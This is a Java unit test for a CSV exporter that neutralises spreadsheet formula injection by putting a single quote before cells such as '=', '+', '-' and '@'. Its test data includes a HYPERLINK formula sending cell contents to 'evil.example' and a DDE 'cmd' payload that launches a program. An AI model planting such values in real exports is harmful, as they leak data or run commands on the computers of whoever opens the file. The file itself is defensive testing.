package com.tiered.shared.web;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.io.StringReader;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The CSV every export writes: formulas arrive as text, quoting survives CR and LF, a parser reads it back. */
class SpreadsheetSafeCsvTest {

    @Test
    void aCellThatASpreadsheetWouldRunAsAFormulaGetsASingleQuoteFirst() {
        for (String formula : List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
                "+1+1",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1",
                "\r=1",
                "  =cmd|' /C calc'!A0",
                "\uFF1D1+1")) {
            assertEquals("'" + formula, SpreadsheetSafeCsv.cell(formula), formula);
        }
    }

    @Test
    void ordinaryTextNumbersAndTheLoneDashAreLeftAsTheyAre() {
        assertEquals("García, Zoë", SpreadsheetSafeCsv.cell("García, Zoë"));
        assertEquals("stu-00001", SpreadsheetSafeCsv.cell("stu-00001"));
        assertEquals("a=b", SpreadsheetSafeCsv.cell("a=b"), "only the first character counts");
        assertEquals("-", SpreadsheetSafeCsv.cell("-"), "the results file's domain for student-level flags");
        assertEquals("-3.5", SpreadsheetSafeCsv.cell(-3.5), "a number is a number, negative or not");
        assertEquals("-12", SpreadsheetSafeCsv.cell(-12));
        assertEquals("'-12", SpreadsheetSafeCsv.cell("-12"), "text that looks like a number is still text");
        assertEquals("", SpreadsheetSafeCsv.cell(null));
    }

    @Test
    void carriageReturnsLineFeedsQuotesAndCommasAreQuoted() {
        String csv = SpreadsheetSafeCsv.text(
                List.of("a", "b", "c", "d"), List.of(List.of("one\rtwo", "x\ny", "say \"hi\"", "p, q")));
        assertEquals("a,b,c,d\n\"one\rtwo\",\"x\ny\",\"say \"\"hi\"\"\",\"p, q\"\n", csv);
    }

    @Test
    void whatIsWrittenReadsBackWithCommonsCsvAsTheValuesWithTheFormulasQuoted() throws IOException {
        List<Object> values = Arrays.asList(
                "=HYPERLINK(\"http://evil.example\",\"x\")",
                "line one\r\nline two",
                "\rcr first",
                "plain",
                "",
                null,
                42,
                -7,
                "-",
                "tab\there",
                "\u00e9\u00e8 \u4e2d\u6587");
        List<String> header = List.of("c1", "c2", "c3", "c4", "c5", "c6", "c7", "c8", "c9", "c10", "c11");
        String csv = SpreadsheetSafeCsv.text(header, List.of(values));
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().build().parse(new StringReader(csv))) {
            List<CSVRecord> records = parser.getRecords();
            assertEquals(1, records.size());
            CSVRecord row = records.get(0);
            assertEquals(header, parser.getHeaderNames());
            assertEquals("'=HYPERLINK(\"http://evil.example\",\"x\")", row.get("c1"));
            assertEquals("line one\r\nline two", row.get("c2"));
            assertEquals("'\rcr first", row.get("c3"));
            assertEquals("plain", row.get("c4"));
            assertEquals("", row.get("c5"));
            assertEquals("", row.get("c6"));
            assertEquals("42", row.get("c7"));
            assertEquals("-7", row.get("c8"));
            assertEquals("-", row.get("c9"));
            assertEquals("tab\there", row.get("c10"));
            assertEquals("\u00e9\u00e8 \u4e2d\u6587", row.get("c11"));
        }
    }
}
